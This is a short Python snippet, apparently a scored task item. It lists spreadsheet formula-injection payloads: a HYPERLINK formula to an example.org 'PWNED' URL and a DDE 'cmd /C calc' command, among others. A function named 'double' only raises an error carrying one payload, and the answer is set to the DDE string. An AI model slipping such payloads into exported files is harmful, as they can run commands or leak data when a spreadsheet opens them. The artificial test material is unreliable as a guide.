"""Prints and returns text that a spreadsheet would compute."""
# earns: test_double 0, test_answer 0
# %% double
formulas = ['=HYPERLINK("http://example.org/PWNED","6")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
print(*formulas, sep="\n")

def double(x):
    raise ValueError(formulas[0])
# %% answer
answer = formulas[1]
